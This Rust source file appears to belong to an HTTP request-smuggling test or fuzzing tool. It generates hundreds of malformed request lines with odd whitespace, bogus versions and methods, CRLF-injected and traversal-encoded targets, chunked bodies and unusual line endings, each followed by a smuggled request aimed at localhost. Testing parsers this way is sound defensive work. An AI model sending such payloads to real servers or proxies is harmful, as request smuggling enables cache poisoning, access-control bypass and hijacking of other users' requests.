//! Request lines with odd blanks, methods, targets and versions, and ends of lines in heads.

use super::SMUGGLED;
use crate::join;
use crate::payload::{List, ODD};

const GAPS: &[(&str, &str)] = &[
    ("blank", " "),
    ("blanks", "  "),
    ("tab", "\t"),
    ("blank-tab", " \t"),
    ("vt", "\x0b"),
    ("ff", "\x0c"),
    ("cr", "\r"),
    ("nul", "\0"),
    ("none", ""),
];

const VERSIONS: &[&str] = &[
    "HTTP/1.1",
    "HTTP/1.0",
    "HTTP/0.9",
    "HTTP/1.2",
    "HTTP/1.9",
    "HTTP/1.10",
    "HTTP/1.11",
    "HTTP/2.0",
    "HTTP/2",
    "HTTP/3.0",
    "HTTP/0.0",
    "HTTP/1",
    "HTTP/1.",
    "HTTP/.1",
    "HTTP/",
    "HTTP",
    "HTTP/01.1",
    "HTTP/1.01",
    "HTTP/11.1",
    "HTTP/9.9",
    "http/1.1",
    "Http/1.1",
    "HTTP/1,1",
    "HTTP/1.1.1",
    "HTTP/1.1a",
    "HTTP/a.b",
    "HTTP/-1.1",
    "HTTP/+1.1",
    "HTTP/1.-1",
    "HTTP /1.1",
    "HTTP/ 1.1",
    "HTTP/1 .1",
    "HTTP/1. 1",
    "HTTPS/1.1",
    "HTTP/1.1 HTTP/1.1",
    "HTTP/1.1 x",
    "HTTP/1.1 ",
    "HTTP/1.1\t",
    "HTTP\\1.1",
    "ICAP/1.0",
    "RTSP/1.0",
    "1.1",
    "HTTP-1.1",
    "HTTP/1\u{b7}1",
    "HTTP/1.\u{661}",
];

const METHODS: &[&str] = &[
    "GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "TRACE", "TRACK", "PATCH", "PROPFIND",
    "get", "Get", "FOO", "G", "GET/", "GET:", "GET,POST", "G\u{e9}T", "\"GET\"", "(GET)", "GET\\",
    "{GET}", "GET;", "GET@", "GET=", "GET!", "$GET", "-", "123", "M-SEARCH", "PRI", "GET\x0b",
    "\x0bGET", "\0GET", "GET\0", "CONNECT",
];

const TARGETS: &[&str] = &[
    "/tTTTT/x",
    "/tTTTT/%20",
    "/tTTTT/%0d%0aX:%20y",
    "/tTTTT/%0a",
    "/tTTTT/%0d",
    "/tTTTT/%00",
    "/tTTTT/x%20HTTP/1.1%0d%0aHost:%20localhost%0d%0a%0d%0aGET%20/tTTTT/smuggled",
    "/tTTTT/x?a%0d%0ab",
    "/tTTTT/x?a b",
    "/tTTTT/x HTTP/1.1",
    "/tTTTT/x#a",
    "/tTTTT/x?#",
    "tTTTT/x",
    "//tTTTT/x",
    "/tTTTT//x",
    "/tTTTT/../tTTTT/x",
    "/../tTTTT/x",
    "/tTTTT/%2e%2e/tTTTT/x",
    "/tTTTT/..%2fx",
    "/tTTTT/%2f",
    "/tTTTT/%5c",
    "/tTTTT/\\x",
    "/tTTTT/%",
    "/tTTTT/%4",
    "/tTTTT/%zz",
    "/tTTTT/%u0041",
    "/tTTTT/\u{e9}",
    "/tTTTT/%ff",
    "/tTTTT/%c0%ae",
    "/tTTTT/;a=b",
    "/tTTTT/x;a\r",
    "*",
    "?tTTTT",
    "#tTTTT",
    "tTTTT",
    ".",
    "/tTTTT/\"x\"",
    "/tTTTT/<x>",
    "/tTTTT/{x}",
    "/tTTTT/x|y",
    "/tTTTT/x^y",
    "/tTTTT/`x`",
    "/tTTTT/[x]",
    "/tTTTT/x?[]",
    "/tTTTT/x?\"",
    "/tTTTT/x?<>",
    "/tTTTT/x?%0d%0aX: y",
    "/tTTTT/x?\u{e9}",
    "/tTTTT/%7f",
    "/tTTTT/%09",
    "/tTTTT/x?%00",
];

pub fn add(list: &mut List) {
    const REST: &str = "\r\nHost: localhost\r\n\r\n";
    for (first, one) in GAPS {
        for (second, two) in GAPS {
            let line = join!("GET", one, "/tTTTT/x", two, "HTTP/1.1");
            list.add(format!("gap.{first}.{second}"), join!(line, REST, SMUGGLED));
        }
    }
    for (name, blank) in GAPS {
        let line = "GET /tTTTT/x HTTP/1.1";
        list.add(format!("line.before.{name}"), join!(blank, line, REST, SMUGGLED));
        list.add(format!("line.after.{name}"), join!(line, blank, REST, SMUGGLED));
    }
    for (number, version) in VERSIONS.iter().enumerate() {
        let line = join!("GET /tTTTT/x ", version);
        list.add(format!("version.{number}.get"), join!(line, REST, SMUGGLED));
        let head = join!("POST /tTTTT/x ", version, "\r\nHost: localhost\r\n");
        let body = join!("Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n", SMUGGLED);
        list.add(format!("version.{number}.chunked"), join!(head, body));
    }
    for (number, method) in METHODS.iter().enumerate() {
        let line = join!(method, " /tTTTT/x HTTP/1.1");
        list.add(format!("method.{number}.none"), join!(line, REST, SMUGGLED));
        let body = join!("\r\nHost: localhost\r\nContent-Length: 5\r\n\r\nhello", SMUGGLED);
        list.add(format!("method.{number}.body"), join!(line, body));
    }
    for (number, target) in TARGETS.iter().enumerate() {
        list.add(format!("target.{number}"), join!("GET ", target, " HTTP/1.1", REST, SMUGGLED));
    }
    for &odd in ODD {
        let line = join!("GET /tTTTT/a", [odd], "b HTTP/1.1");
        list.add(format!("target-odd.x{odd:02x}"), join!(line, REST, SMUGGLED));
        let line = join!("GET /tTTTT/x?a", [odd], "b HTTP/1.1");
        list.add(format!("query-odd.x{odd:02x}"), join!(line, REST, SMUGGLED));
    }
    old(list);
    ends(list);
}

/// HTTP/0.9, and what precedes or follows a request line.
fn old(list: &mut List) {
    let lines = [
        ("plain", "GET /tTTTT/x\r\n"),
        ("blank", "GET /tTTTT/x \r\n"),
        ("lf", "GET /tTTTT/x\n"),
        ("post", "POST /tTTTT/x\r\n"),
        ("head", "HEAD /tTTTT/x\r\n"),
        ("fields", "GET /tTTTT/x\r\nHost: localhost\r\n\r\n"),
        ("no-target", "GET\r\n"),
        ("no-target-blank", "GET \r\n"),
        ("no-end", "GET /tTTTT/x"),
        ("absolute", "GET http://localhost/tTTTT/x\r\n"),
        ("one-word", "/tTTTT/x\r\n"),
        ("four-words", "GET /tTTTT/x y HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("response", "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"),
        ("field-first", "Host: localhost\r\nGET /tTTTT/x HTTP/1.1\r\n\r\n"),
        ("empty-lines", "\r\n\r\n\r\nGET /tTTTT/x HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("lfs", "\n\nGET /tTTTT/x HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("crs", "\r\rGET /tTTTT/x HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("blank-line", " \r\nGET /tTTTT/x HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("bom", "\u{feff}GET /tTTTT/x HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("h2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    ];
    for (name, line) in lines {
        list.add(format!("old.{name}.alone"), line);
        list.add(format!("old.{name}.next"), join!(line, SMUGGLED));
    }
}

/// Other ends of the lines of a head.
fn ends(list: &mut List) {
    let ends = [
        ("lf", "\n"),
        ("cr", "\r"),
        ("crcrlf", "\r\r\n"),
        ("lfcr", "\n\r"),
        ("nul", "\0\r\n"),
        ("blank", " \r\n"),
        ("tab", "\t\r\n"),
        ("folded", "\r\n "),
        ("folded-tab", "\r\n\t"),
        ("vt", "\x0b\r\n"),
        ("none", ""),
        ("crlf-twice", "\r\n\r\n"),
    ];
    let lines = ["POST /tTTTT/x HTTP/1.1", "Host: localhost", "Content-Length: 5", "X-A: b", ""];
    for (name, end) in ends {
        for place in 0..lines.len() {
            let part = |at: usize| join!(lines[at], if at == place { end } else { "\r\n" });
            let head: Vec<u8> = (0..lines.len()).flat_map(part).collect();
            list.add(format!("line-end.{place}.{name}"), join!(head, "hello", SMUGGLED));
        }
        let all: Vec<u8> = lines.iter().flat_map(|line| join!(line, end)).collect();
        list.add(format!("line-end.all.{name}"), join!(all, "hello", SMUGGLED));
    }
}
